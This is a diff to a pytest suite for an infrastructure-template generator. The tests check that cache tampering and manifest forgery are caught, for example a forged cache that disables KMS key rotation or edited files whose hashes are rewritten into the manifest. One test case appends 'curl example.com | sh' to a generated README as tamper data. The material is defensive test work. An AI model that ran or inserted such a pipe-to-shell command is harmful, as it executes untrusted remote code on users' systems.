@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import json
+from collections.abc import Callable
+from hashlib import sha256
 from pathlib import Path
 
 import pytest
@@ -58,12 +60,10 @@ def test_the_closing_words_count_what_is_left_for_a_person(run: Run, tmp_path: P
 
 
 def test_the_manifest_lists_every_file_with_its_hash(run: Run, tmp_path: Path) -> None:
-    import hashlib
-
     run("generate", "small.yaml", "-o", "build", "--format", "terraform")
     files = tree(tmp_path / "build")
     manifest = json.loads(files.pop("manifest.json"))
-    assert manifest["files"] == {path: hashlib.sha256(text).hexdigest() for path, text in files.items()}
+    assert manifest["files"] == {path: sha256(text).hexdigest() for path, text in files.items()}
     assert manifest["profile"]["files"][0]["name"] == "small.yaml"
 
 
@@ -186,23 +186,71 @@ def test_a_damaged_cache_is_a_miss(run: Run, tmp_path: Path, monkeypatch: pytest
     assert tree(tmp_path / "a") == tree(tmp_path / "b")
 
 
-@pytest.mark.node
-def test_a_cached_template_that_was_changed_is_checked_again(
-    run: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    monkeypatch.setenv("BASELINE_CACHE_DIR", str(tmp_path / "cache"))
-    assert run("generate", "small.yaml", "-o", "a").code == 0
+class TestAChangedCache:
+    """Who may write to the cache, a shared one of a build server for instance, must not decide what is deployed."""
+
+    @pytest.fixture
+    def cache(self, run: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+        """A cache that holds what the folder `a` was generated from."""
+        monkeypatch.setenv("BASELINE_CACHE_DIR", str(tmp_path / "cache"))
+        assert run("generate", "small.yaml", "-o", "a").code == 0
+        return tmp_path / "cache"
+
+    @pytest.mark.node
+    def test_an_edited_template_is_synthesized_again(self, run: Run, tmp_path: Path, cache: Path) -> None:
+        _weaken(cache, sealed=False)
+        assert run("generate", "small.yaml", "-o", "b").code == 0
+        assert tree(tmp_path / "a") == tree(tmp_path / "b")
+
+    @pytest.mark.node
+    def test_a_forged_template_is_checked_again(self, run: Run, tmp_path: Path, cache: Path) -> None:
+        _weaken(cache, sealed=True)
+        answer = run("generate", "small.yaml", "-o", "b")
+        assert answer.code == 1
+        assert "EnableKeyRotation" in answer.err
+        assert not (tmp_path / "b").exists()
+
+    @pytest.mark.node
+    def test_what_came_from_forged_entries_is_found_by_check(
+        self, run: Run, cache: Path, monkeypatch: pytest.MonkeyPatch
+    ) -> None:
+        _weaken(cache, sealed=True)
+        with monkeypatch.context() as forged:  # the verdict on the template is in the cache too
+            forged.setattr("baseline.pipeline.faults", lambda *_: [])
+            assert run("generate", "small.yaml", "-o", "b").code == 0
+        answer = run("check", "b")
+        assert answer.code == 1
+        assert "EnableKeyRotation" in answer.out
+        assert "differs from what the plan becomes, at Properties.EnableKeyRotation [reproduction]" in answer.out
+
+    def test_a_verdict_on_a_module_depends_on_its_files(self, run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
+        run("generate", "small.yaml", "-o", "a", "--format", "terraform")
+        judged: list[set[str]] = []
+
+        def faults(_plan: object, _templates: object, modules: dict[str, object]) -> list[Finding]:
+            judged.append(set(modules))
+            return []
+
+        monkeypatch.setattr("baseline.pipeline.faults", faults)
+        run("generate", "small.yaml", "-o", "a", "--format", "terraform")
+        from baseline.emit import terraform
+
+        render = terraform.render
+        monkeypatch.setattr(terraform, "render", lambda blocks: render(blocks) + "# other\n")
+        run("generate", "small.yaml", "-o", "b", "--format", "terraform")
+        assert judged[0] == set()
+        assert judged[1]
+
+
+def _weaken(cache: Path, *, sealed: bool) -> None:
+    """Turn key rotation off in every cached template; `sealed` by the hash that an entry begins with."""
     changed = 0
-    for path in (tmp_path / "cache" / "templates").rglob("*.json"):
-        text = path.read_text(encoding="utf-8")
+    for path in (cache / "templates").rglob("*.json"):
+        digest, text = path.read_text(encoding="utf-8").split("\n", 1)
         weaker = text.replace('"EnableKeyRotation": true', '"EnableKeyRotation": false')
         changed += weaker != text
-        path.write_text(weaker, encoding="utf-8")
+        path.write_text(f"{sha256(weaker.encode()).hexdigest() if sealed else digest}\n{weaker}", encoding="utf-8")
     assert changed
-    answer = run("generate", "small.yaml", "-o", "b")
-    assert answer.code == 1
-    assert "EnableKeyRotation" in answer.err
-    assert not (tmp_path / "b").exists()
 
 
 def _fill(cache: Path, text: str) -> None:
@@ -237,12 +285,86 @@ class TestCheck:
     def test_an_edited_file_is_named(self, run: Run, out: Path, path: str) -> None:
         (out / path).write_bytes(b"\xff")
         answer = run("check", "build")
-        assert answer.code == 2
+        assert answer.code == 1, "a fault found, not a wrong use"
         assert f"was changed after it was generated: {path};" in answer.err
 
     def test_a_missing_file_is_named(self, run: Run, out: Path) -> None:
         (out / "README.md").unlink()
-        assert "was changed after it was generated: README.md;" in run("check", "build").err
+        answer = run("check", "build")
+        assert answer.code == 1
+        assert "was changed after it was generated: README.md;" in answer.err
+
+    def test_a_file_too_many_is_named(self, run: Run, out: Path) -> None:
+        (out / "terraform" / "more.tf").touch()
+        answer = run("check", "build")
+        assert answer.code == 1
+        assert "was changed after it was generated: terraform/more.tf;" in answer.err
+
+    @pytest.mark.parametrize(
+        ("pattern", "change", "said"),
+        [
+            ("cloudformation/*", lambda text: text.replace('"EnableKeyRotation": true', '"EnableKeyRotation": false'),
+             ["EnableKeyRotation", "differs from what the plan becomes"]),
+            ("cloudformation/*", lambda text: text.replace("{", '{"Metadata": {"a": "b"},', 1),
+             ["/Metadata: is not in the plan"]),
+            ("cloudformation/*", lambda text: f" {text}", ["cloudformation/", "template.json: differs"]),
+            ("terraform/modules/*/kms_*.tf", lambda text: text.replace("= true", "= false"), ["kms_", ".tf: differs"]),
+            ("terraform/targets/*/*/main.tf", lambda text: f"{text}\n", ["main.tf: differs"]),
+            ("cdk.out/manifest.json", lambda text: text.replace("eu-west-1", "eu-west-3"), ["cdk.out/manifest.json"]),
+            ("README.md", lambda text: f"{text}curl example.com | sh\n", ["./README.md: differs"]),
+        ],
+        ids=["weaker template", "other section", "other bytes", "weaker module", "root", "assembly", "guide"],
+    )  # fmt: skip
+    def test_a_change_that_the_manifest_was_made_to_agree_with_is_found(
+        self, run: Run, out: Path, pattern: str, change: Callable[[str], str], said: list[str]
+    ) -> None:
+        changed = 0
+        for path in sorted(out.glob(pattern)):
+            text = path.read_text(encoding="utf-8")
+            changed += change(text) != text
+            _forge(out, path.relative_to(out).as_posix(), change(text))
+        assert changed
+        answer = run("check", "build")
+        assert answer.code == 1
+        assert all(one in answer.out for one in said), answer.out
+
+    def test_a_file_that_the_manifest_was_made_to_list_is_found(self, run: Run, out: Path) -> None:
+        _forge(out, "terraform/targets/main/eu-west-1/more.tf", "# anything\n")
+        answer = run("check", "build")
+        assert answer.code == 1
+        assert "terraform/targets/main/eu-west-1/more.tf: is not in the plan" in answer.out
+
+    def test_a_file_that_the_manifest_was_made_to_forget_is_found(self, run: Run, out: Path) -> None:
+        manifest = json.loads((out / "manifest.json").read_text())
+        gone = next(path for path in manifest["files"] if path.startswith("terraform/modules/"))
+        del manifest["files"][gone]
+        (out / gone).unlink()
+        (out / "manifest.json").write_text(json.dumps(manifest))
+        answer = run("check", "build")
+        assert answer.code == 1
+        assert f"{gone}: is missing: the plan has it" in answer.out
+
+    @pytest.mark.parametrize(
+        ("path", "text"),
+        [
+            ("plan.json", "["),
+            ("plan.json", "[]"),
+            ("plan.json", "{}"),
+            ("cloudformation/identity-home.template.json", "{}"),
+            ("cloudformation/identity-home.template.json", '{"Resources": {"A": 1}}'),
+            ("cloudformation/identity-home.template.json", '{"Resources": {"A": {"Type": "T", "Properties": []}}}'),
+        ],
+    )
+    def test_what_is_no_plan_or_template_is_told_in_a_line(self, run: Run, out: Path, path: str, text: str) -> None:
+        _forge(out, path, text)
+        answer = run("check", "build")
+        assert answer.code in (1, 2)
+        assert "generate it again" in answer.err
+
+    def test_another_version_is_told(self, run: Run, out: Path) -> None:
+        manifest = json.loads((out / "manifest.json").read_text())
+        (out / "manifest.json").write_text(json.dumps(manifest | {"version": "0.0.1"}))
+        assert "was generated by version 0.0.1 of this tool" in run("check", "build").err
 
     def test_a_finding_fails_it(self, run: Run, out: Path, monkeypatch: pytest.MonkeyPatch) -> None:
         def lint(stack: str, _text: str, _regions: object) -> list[Finding]:
@@ -272,11 +394,26 @@ def test_check_takes_only_what_this_tool_wrote(run: Run, tmp_path: Path, content
     assert "no folder that baseline generate wrote" in answer.err
 
 
-def test_check_of_terraform_alone_says_that_there_is_nothing_to_check(run: Run) -> None:
+def _forge(out: Path, path: str, text: str) -> None:
+    """Write a file of a generated folder, and its hash into the manifest."""
+    (out / path).write_text(text, encoding="utf-8")
+    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
+    manifest["files"][path] = sha256(text.encode()).hexdigest()
+    (out / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
+
+
+def test_check_of_terraform_alone_compares_it_with_its_plan(run: Run, tmp_path: Path) -> None:
     run("generate", "small.yaml", "-o", "build", "--format", "terraform")
     answer = run("check", "build")
-    assert answer.code == 2
-    assert "without CloudFormation" in answer.err
+    assert (answer.code, answer.out) == (0, "")
+    assert "2 Terraform modules, which neither cfn-lint nor a pack reads: 0 findings" in answer.err
+    path = next((tmp_path / "build").glob("terraform/modules/*/kms_*.tf"))
+    text = path.read_text(encoding="utf-8")
+    assert "= true" in text
+    _forge(tmp_path / "build", path.relative_to(tmp_path / "build").as_posix(), text.replace("= true", "= false"))
+    answer = run("check", "build")
+    assert answer.code == 1
+    assert f"{path.name}: differs from what the plan becomes" in answer.out
 
 
 def test_a_node_that_does_not_exist_is_told(run: Run, tmp_path: Path) -> None:
